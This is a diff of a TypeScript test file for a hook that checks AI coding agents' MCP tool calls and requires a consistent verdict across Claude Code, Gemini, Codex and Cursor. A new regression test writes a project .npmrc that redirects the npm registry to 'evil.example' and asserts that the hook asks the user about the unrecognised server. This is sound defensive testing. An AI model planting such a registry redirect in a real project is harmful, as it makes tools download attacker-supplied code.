@@ -17,8 +17,11 @@
  */
 import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { beforeAll, describe, expect, it } from 'vitest';
-import { runCli } from '../cli/harness.ts';
+import { describe, expect, it } from 'vitest';
+import { ADAPTERS } from '../../src/clients/agents/index.ts';
+import { HookContext } from '../../src/hook/context.ts';
+import { handleAgentHook } from '../../src/hook/core/gate.ts';
+import { handleHook } from '../../src/hook/handle.ts';
 import { logLines, makeWorld, type World } from './support.ts';
 
 type Agent = 'claude-code' | 'gemini' | 'codex' | 'cursor';
@@ -213,21 +216,21 @@ function parityWorld(): World {
   return world;
 }
 
+/**
+ * One hook event through the same handlers `rclass hook [--agent NAME]` runs, without the command's 8 s
+ * deadline: on a loaded machine that deadline answers ask for every call, which would hide the verdicts
+ * compared here (the deadline has its own tests in failures.test.ts).
+ */
 async function run(agent: Agent, world: World, stdin: string): Promise<string> {
-  const args = agent === 'claude-code' ? ['hook'] : ['hook', '--agent', agent];
-  const result = await runCli(args, { stdin, env: world.env, cwd: world.project });
-  expect(result.code).toBe(0);
-  return result.stdout;
+  const context = new HookContext({ thresholds: {}, egressAllow: [], mappings: [] }, { env: world.env, cwd: world.project });
+  const input = { ok: true as const, text: stdin };
+  const answer = agent === 'claude-code' ? await handleHook(context, input) : await handleAgentHook(context, ADAPTERS[agent], input);
+  return answer.stdout;
 }
 
 describe('the same call gets the same verdict from every agent hook', () => {
   const world = parityWorld();
   let n = 0;
-  // The first MCP call of a process loads the registry and the decision core; on a loaded machine that alone can pass
-  // the hook's own deadline (an ask), so each hook path is loaded once before the table runs.
-  beforeAll(async () => {
-    for (const agent of AGENTS) await run(agent, world, payloadOf(agent, `warm-${agent}`, READ, world));
-  }, 180_000);
   for (const c of cases(world)) {
     describe(c.name, () => {
       for (const agent of AGENTS) {
@@ -247,4 +250,35 @@ describe('the same call gets the same verdict from every agent hook', () => {
     const lines = logLines(world.log).filter((line) => line.event === 'decision' && typeof line.session === 'string');
     for (const agent of ['gemini', 'codex', 'cursor'] as const) expect(lines.some((line) => String(line.session).startsWith(`${agent}:parity-`))).toBe(true);
   });
+});
+
+describe('the project folder each agent reports', () => {
+  // F6 (review turn 3): a project .npmrc that points npm elsewhere makes `npx @modelcontextprotocol/server-memory`
+  // another server; the hook must look where the agent starts it, not only where an entry's own cwd says.
+  const world = parityWorld();
+  writeFileSync(path.join(world.project, '.npmrc'), 'registry=https://evil.example/\n');
+
+  it.each(['gemini', 'cursor'] as const)(
+    "regression: %s starts the server in the project folder it reports (Gemini's top-level cwd, Cursor's workspace_roots), so its .npmrc leaves the server unrecognised",
+    async (agent) => {
+      const stdout = await run(agent, world, payloadOf(agent, `npmrc-${agent}`, READ, world));
+      const json = JSON.parse(stdout) as Record<string, string>;
+      expect(json[agent === 'gemini' ? 'decision' : 'permission']).toBe('ask');
+      expect(json[agent === 'gemini' ? 'reason' : 'user_message']).toContain('R4 Irreversible (unknown)');
+      expect(json[agent === 'gemini' ? 'reason' : 'user_message']).toContain('.npmrc');
+    },
+    60_000,
+  );
+
+  it('Cursor with several workspace folders recognises a server only when it is the same record from each', async () => {
+    const other = path.join(world.root, 'other');
+    mkdirSync(other, { recursive: true });
+    const payload = JSON.parse(payloadOf('cursor', 'npmrc-multi', READ, world)) as Record<string, unknown>;
+    payload.workspace_roots = [other, world.project];
+    const json = JSON.parse(await run('cursor', world, JSON.stringify(payload))) as Record<string, string>;
+    expect(json.permission).toBe('ask');
+    expect(json.user_message).toContain('.npmrc');
+    payload.workspace_roots = [other];
+    expect(JSON.parse(await run('cursor', world, JSON.stringify(payload)))).toEqual({});
+  }, 60_000);
 });
